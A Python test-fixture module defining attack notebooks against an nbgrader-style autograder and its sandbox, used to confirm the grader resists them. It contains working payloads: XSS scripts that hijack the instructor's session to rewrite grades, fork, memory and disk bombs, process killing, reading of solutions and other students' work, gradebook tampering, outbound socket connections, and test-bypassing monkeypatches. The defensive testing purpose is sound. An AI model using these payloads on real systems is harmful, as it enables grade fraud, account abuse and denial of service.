"""A bank of attack submissions on notebook 02, each built from an honest sample student.

Each :class:`Attack` takes the honest notebook of a sample-class student (``base``: bob, whose
notebook has some known bugs, so there is something to gain) and either adds a code cell
(``where``: ``"top"``, right after the imports, or ``"end"``) or rewrites the notebook JSON
(``transform``). ``tests/test_attacks.py`` grades them all in one batch, with the honest class,
through the real CLI, and asserts that no attack scores above its honest base, that the honest
students get exactly their grades from a batch without attackers, and that nothing outside the
sandbox changed.

Tokens in the cells are filled in by the test: ``@REPO@`` (the repository), ``@OUT@`` (the
grading output directory, the gradebook in it), ``@SUBS@`` (the submissions), ``@CANARY@`` (a
directory of canary files), ``@MARKER@`` (a unique string), ``@PORT@`` (a TCP port the test
listens on at 127.0.0.1).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from attacks.delegation import ROUTES, route_notebook


@dataclass(frozen=True)
class Attack:
    """One attack submission."""

    name: str
    code: str = ""
    where: str = "end"
    transform: Callable[[dict], Any] | None = None
    reason: str = ""
    """a text some graded cell's reason must contain (how the attack was stopped)."""
    base: str = "bob"


def _grade(cell: dict) -> dict:
    return cell["metadata"].get("nbgrader", {})


def _checks(nb: dict) -> list[dict]:
    return [c for c in nb["cells"] if _grade(c).get("grade") and c["cell_type"] == "code"]


def _tampered_metadata(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        meta = _grade(cell)
        if not meta:
            continue
        if meta.get("grade") and cell["cell_type"] == "code":
            cell["source"] = "pass  # every test passes"
            meta["points"] = 100
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "ok\n"}]
        elif meta.get("solution") and cell["cell_type"] == "code":
            meta.update(grade=True, points=50, locked=False)
        else:
            meta["points"] = 99
    return nb


def _duplicated_grade_ids(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    extra = [copy.deepcopy(c) for c in _checks(nb) for _ in range(3)]
    extra += [copy.deepcopy(c) for c in nb["cells"] if c["cell_type"] == "markdown"
              and _grade(c).get("grade")]
    for n, cell in enumerate(extra):
        cell["id"] = f"dup-{n}"
    nb["cells"] = extra[:2] + nb["cells"] + extra[2:]
    return nb


def _deleted_metadata(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        cell["metadata"] = {}
    nb["metadata"] = {}
    return nb


def _changed_kernelspec(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash",
                                    "argv": ["/bin/sh", "-c", "touch /tmp/pwned"]}
    nb["metadata"]["language_info"] = {"name": "bash"}
    return nb


def _replace_function(nb: dict, name: str, source: str) -> dict:
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb["cells"] if _grade(c).get("grade_id") == name)
    cell["source"] = source
    return nb


def _corrupt_json(nb: dict) -> str:
    return json.dumps(nb)[: len(json.dumps(nb)) // 2]


def _huge(nb: dict) -> str:
    nb = copy.deepcopy(nb)
    code = next(c for c in nb["cells"] if c["cell_type"] == "code")
    code["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * (30 * 2**20)}]
    return json.dumps(nb)


#: what the XSS attacker's script does in the instructor's browser: mark the page, then use
#: formgrader's API with the instructor's session (full marks for itself, zero for everyone
#: else, and nbgrader's autograde, which would run the notebook outside the sandbox).
XSS_SCRIPT = """\
window.__pwned = (window.__pwned || 0) + 1;
(async () => {
  const xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || "");
  const headers = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
  const api = "/formgrader/api/";
  const subs = await (await fetch(api + "submitted_notebooks/02_bellman/02_bellman")).json();
  for (const sub of subs) {
    const grades = await (await fetch(api + "grades?submission_id=" + sub.id)).json();
    for (const g of grades) {
      g.manual_score = sub.student === "x-xss" ? g.max_score : 0;
      await fetch(api + "grade/" + g.id, {method: "PUT", headers, body: JSON.stringify(g)});
    }
    await fetch(api + "submission/02_bellman/" + sub.student + "/autograde",
                {method: "POST", headers});
  }
})();
"""


def xss_payloads(script: str = XSS_SCRIPT) -> list[str]:
    """HTML that runs ``script``, each by another route."""
    import base64

    encoded = base64.b64encode(script.encode()).decode()
    run = f"eval(atob('{encoded}'))"
    return [f"<script>{script}</script>",
            f'<img src="x" onerror="{run}">',
            f'<svg onload="{run}"><script>{script}</script></svg>',
            f'<a href="javascript:{run}">click me</a>',
            f'<iframe srcdoc="<script>{run}</script>"></iframe>',
            f'<form action="javascript:{run}"><button>send</button></form>',
            f'<object data="data:text/html;base64,{encoded}"></object>',
            f'<embed src="data:text/html;base64,{encoded}">',
            f'<style>@import "javascript:{run}";</style>',
            f'<details open ontoggle="{run}">x</details>',
            f'<a href="data:text/html;base64,{encoded}">data link</a>']


def xss_notebook(nb: dict, marker: str = "/tmp/xss-autograde-marker") -> dict:
    """``nb`` with a script in every written answer and in outputs, and a code cell that
    writes ``marker`` (it must never run outside the sandbox)."""
    import base64

    nb = copy.deepcopy(nb)
    html = "\n".join(xss_payloads())
    for cell in nb["cells"]:
        if cell["cell_type"] == "markdown" and _grade(cell).get("grade"):
            cell["source"] = "My answer: $\\gamma < 1$ and a > b.\n\n" + html
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1">'
           f"<script>{XSS_SCRIPT}</script></svg>")
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {
            "text/html": html, "application/javascript": XSS_SCRIPT, "image/svg+xml": svg,
            "text/markdown": html, "text/plain": "a harmless figure"}},
        {"output_type": "display_data", "data": {
            "image/png": base64.b64encode(b"not a png").decode()},
         "metadata": {"image/png": {"width": f'1 onerror="{XSS_SCRIPT}"'}}},
        {"output_type": "stream", "name": 'stdout" onmouseover="window.__pwned=1',
         "text": "<script>window.__pwned = 1</script>"},
        {"output_type": "display_data", "metadata": {}, "data": {
            "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}}},
    ]
    code = ("import pathlib\n"
            f"pathlib.Path({marker!r}).write_text('student code ran')\n")
    nb["cells"] += [
        {"cell_type": "code", "execution_count": 1, "id": "xss-outputs", "metadata": {},
         "outputs": outputs, "source": "print('figure')"},
        {"cell_type": "code", "execution_count": 2, "id": "xss-marker", "metadata": {},
         "outputs": [], "source": code},
        {"cell_type": "markdown", "id": "xss-plain", "metadata": {"tags": ['x" onclick="1']},
         "source": html},
        {"cell_type": "raw", "id": "xss-raw", "metadata": {"raw_mimetype": "text/html"},
         "source": html},
    ]
    nb.setdefault("metadata", {})["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    return nb


def _json_bomb(nb: dict) -> str:
    return '{"cells": ' + "[" * 200_000 + "]" * 200_000 + ', "nbformat": 4}'


ATTACKS = [
    Attack("ipython_input_transformer", where="top", code="""\
import os
if os.environ.get("NBGRADER_EXECUTION"):
    # nbgrader's classic hole: every later cell (the test cells too) becomes `pass`
    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""),
    Attack("ipython_pre_run_cell", code="""\
import builtins
ip = get_ipython()
def _pass_everything(*args, **kwargs):
    builtins.check = lambda *a, **k: print("\\u2713 all cases passed")
ip.events.register("pre_run_cell", _pass_everything)
ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
"""),
    Attack("patched_numpy", where="top", code="""\
import numpy as np
import numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
"""),
    Attack("patched_builtins", where="top", code="""\
import builtins, operator
builtins.AssertionError = type("NeverRaised", (Exception,), {})
builtins.isinstance = lambda obj, cls: True
operator.eq = lambda a, b: True
"""),
    Attack("patched_grader", where="top", code="""\
import autograder.judge.core as core
import autograder.box.wire as wire
core.CheckReport.passed = property(lambda self: True)
core.allclose = lambda **k: (lambda got, expected: None)
core.Judge.__call__ = lambda self, outputs, rerun=None: core.CheckReport(
    self.spec.name, self.spec.points, (), None, None)
wire.encode = lambda value: {"s": "passed"}
"""),
    Attack("always_equal", code="""\
import numpy as np

class AlwaysEqual(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__

class EqualArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool)
    def __array__(self, *args, **kwargs):
        raise TypeError

def value_iteration_step(mdp, values):
    return np.zeros(mdp.n_states).view(EqualArray)

def policy_iteration(mdp):
    return AlwaysEqual(0), AlwaysEqual(0)

def epsilon_greedy(q_row, epsilon, rng):
    return AlwaysEqual(0)
"""),
    Attack("fake_output", code="""\
import os, sys
print("\\u2713 bellman.value_iteration_step: all 8 cases passed (2/2 points)")
print('{"status": "ok", "cases": [], "outputs": []}')
sys.stderr.write("Total: 16/16 autograded points\\n")
for fd in range(3, 20):
    try:
        os.write(fd, b'{"status": "ok", "nonce": null, "outputs": []}\\n')
    except OSError:
        pass
"""),
    Attack("sys_exit", code="""\
import sys
try:
    exit()
finally:
    sys.exit(0)
"""),
    Attack("os_exit", where="top", reason="crash:", code="""\
import os
os._exit(0)
"""),
    Attack("kill_parent", where="top", code="""\
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as exc:
        print("cannot kill", pid, exc)
os.killpg(os.getpgrp(), signal.SIGKILL)
"""),
    Attack("read_solutions", code="""\
import json, pathlib
wanted = ["value_iteration_step", "policy_iteration", "epsilon_greedy"]
sources = []
for path in ["@REPO@/solutions/02_bellman.py",
             "@REPO@/autograder/frontends/sample_class/alice/02_bellman/02_bellman.ipynb",
             "@SUBS@/alice/02_bellman/02_bellman.ipynb"]:
    try:
        text = pathlib.Path(path).read_text()
    except OSError as exc:
        print("cannot read", path, type(exc).__name__)
        continue
    if path.endswith(".ipynb"):
        sources += ["".join(c["source"]) for c in json.loads(text)["cells"]
                    if c["cell_type"] == "code"]
    else:
        sources += [chunk.split("\\n", 1)[1] for chunk in text.split("\\n# %%") if "\\n" in chunk]
for source in sources:
    if any(f"def {name}(" in source for name in wanted):
        exec(source, globals())
"""),
    Attack("read_gradebook", code="""\
import pathlib
for path in ["@OUT@/gradebook.db", "@OUT@/grades.csv", "@OUT@/course/nbgrader_config.py"]:
    try:
        print(path, len(pathlib.Path(path).read_bytes()))
    except OSError as exc:
        print("cannot read", path, type(exc).__name__)
"""),
    Attack("write_outside", code="""\
import sqlite3
for target in ["@REPO@/solutions/@MARKER@.txt", "@REPO@/autograder/checks/@MARKER@.py",
               "@REPO@/rlkit/@MARKER@.py", "@OUT@/gradebook.db", "@OUT@/grades.csv",
               "@SUBS@/alice/02_bellman/02_bellman.ipynb", "@CANARY@/canary.txt",
               "@CANARY@/@MARKER@", "/tmp/@MARKER@"]:
    for mode in ("a", "w"):
        try:
            with open(target, mode) as f:
                f.write("@MARKER@")
        except OSError as exc:
            print("cannot write", target, exc)
try:
    db = sqlite3.connect("@OUT@/gradebook.db")
    db.execute("update grade set manual_score = 100")
    db.commit()
except Exception as exc:
    print("no gradebook:", exc)
"""),
    Attack("infinite_loop", reason="timeout:", transform=lambda nb: _replace_function(
        nb, "q_learning_update", "def q_learning_update(*a):\n    while True:\n        pass\n")),
    Attack("infinite_loop_ignoring_signals", where="top", reason="timeout:", code="""\
import signal
for sig in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
    signal.signal(sig, signal.SIG_IGN)
while True:
    try:
        pass
    except BaseException:
        pass
"""),
    Attack("fork_bomb", where="top", code="""\
import os, time
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass
time.sleep(3)
"""),
    Attack("memory_bomb", where="top", reason="memory:", code="""\
hog = []
while True:
    hog.append(b"x" * 2**26)
"""),
    Attack("disk_filler", where="top", code="""\
import os
chunk = b"x" * 2**20
for n, where in enumerate(["/scratch", "/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"),
                           "@CANARY@"]):
    try:
        with open(os.path.join(where, f"fill-@MARKER@-{n}"), "wb") as f:
            while True:
                f.write(chunk)
    except OSError as exc:
        print("stopped filling", where, exc)
"""),
    Attack("endless_output", where="top", code="""\
while True:
    print("spam " * 200)
"""),
    Attack("background_process", where="top", code="""\
import os, subprocess, sys, time
LOOP = r'''
import os, time  # @MARKER@
while True:
    for fd in range(3, 12):
        try:
            os.write(fd, b'{"status": "ok", "nonce": null}\\n')
        except OSError:
            pass
    try:
        open("@CANARY@/bg-@MARKER@", "w").write("x")
    except OSError:
        pass
    time.sleep(0.05)
'''
subprocess.Popen([sys.executable, "-c", LOOP], start_new_session=True, close_fds=False)
if os.fork() == 0:
    os.setsid()
    exec(LOOP)
time.sleep(0.5)
"""),
    Attack("network", where="top", code="""\
import socket
for host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
    try:
        s = socket.create_connection((host, @PORT@), timeout=2)
        s.sendall(b"@MARKER@")
        print("connected to", host)
    except OSError as exc:
        print("no connection to", host, exc)
try:
    print(socket.getaddrinfo("example.com", 80))
except OSError as exc:
    print("no DNS:", exc)
"""),
    Attack("tampered_metadata", transform=_tampered_metadata),
    Attack("duplicated_grade_ids", transform=_duplicated_grade_ids),
    Attack("deleted_metadata", transform=_deleted_metadata),
    Attack("changed_kernelspec", transform=_changed_kernelspec),
    Attack("corrupt_json", transform=_corrupt_json, reason="corrupt notebook: not valid JSON"),
    Attack("huge_notebook", transform=_huge, reason="more than the 20 MiB"),
    Attack("json_bomb", transform=_json_bomb, reason="corrupt notebook"),
    # scripts in the written answers and outputs, for the instructor's browser (formgrader)
    Attack("xss", transform=xss_notebook),
    # an honest notebook whose q_from_v hands the work to rlkit's own, by each route there is
    *(Attack(f"delegates_{route}", transform=lambda nb, r=route: route_notebook(nb, r),
             base="alice", reason="`q_from_v` calls `rlkit.dp.q_from_v`, the function this "
                                  "check asks you to write")
      for route in ROUTES),
]


def build(attack: Attack, base: dict, tokens: dict[str, str]) -> str:
    """The attack submission's file content, from the base student's notebook (JSON)."""
    if attack.transform is not None:
        out = attack.transform(base)
        return out if isinstance(out, str) else json.dumps(out)
    code = attack.code
    for key, value in tokens.items():
        code = code.replace(f"@{key}@", value)
    nb = copy.deepcopy(base)
    cell = {"cell_type": "code", "execution_count": None, "id": f"attack-{attack.name}",
            "metadata": {}, "outputs": [], "source": code}
    if attack.where == "top":
        first = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code")
        nb["cells"].insert(first + 1, cell)
    else:
        nb["cells"].append(cell)
    return json.dumps(nb)
